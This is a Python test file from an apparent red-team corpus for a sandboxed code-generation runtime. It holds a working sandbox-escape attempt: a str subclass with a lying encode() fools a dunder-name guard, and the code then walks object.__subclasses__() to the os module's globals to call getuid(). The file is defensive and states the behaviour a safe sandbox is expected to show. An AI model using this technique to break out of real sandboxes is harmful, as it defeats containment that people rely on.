# Red-team corpus for the sandboxed code-generation runtime.
# Contract: the module defines run(inputs: dict) -> dict. For attack files, a returned
# {'escaped': True, ...} means the attack WORKED (sandbox failure).
# @id: hostile_str_encode_getattr
# @category: escape
# @expect: error   (reject = compile-time refusal or policy error; limit = killed/stopped by a resource limit; error = any exception, fast; ok = must run)
# @layer: both
# @raw_safe: yes   (yes = payload is benign enough to run unsandboxed to validate the snippet)
# @source: issue #11: hostile str subclass as attribute name
# Attempt: Pass attribute names as a str subclass whose encode() lies, so that a guard which
#   checks name.encode() as bytes (b'_' prefix test) approves '__class__', '__subclasses__',
#   '__globals__' while the builtin getattr(obj, name) still reads the real characters; then walk
#   object.__subclasses__() to os.getuid().
# Safe sandbox must: refuse the dunder name whatever the str subclass answers (check an exact str
#   copy, e.g. str.__str__(name), and use that copy for the lookup), or refuse str subclasses as
#   names; never return escaped=True.

class Name(str):
    def encode(self, encoding="utf-8", errors="strict"):
        return b"safe"


def walk(get):
    """object -> every loaded class -> os._wrap_close -> os namespace -> getuid() (harmless)."""
    base = get(get((), "__class__"), "__base__")
    for cls in get(base, "__subclasses__")():
        if get(cls, "__name__") == "_wrap_close":
            return get(get(cls, "__init__"), "__globals__")["getuid"]()
    raise LookupError("os._wrap_close is not loaded")


def run(inputs):
    uid = walk(lambda obj, name: getattr(obj, Name(name)))
    return {"escaped": True, "evidence": uid}
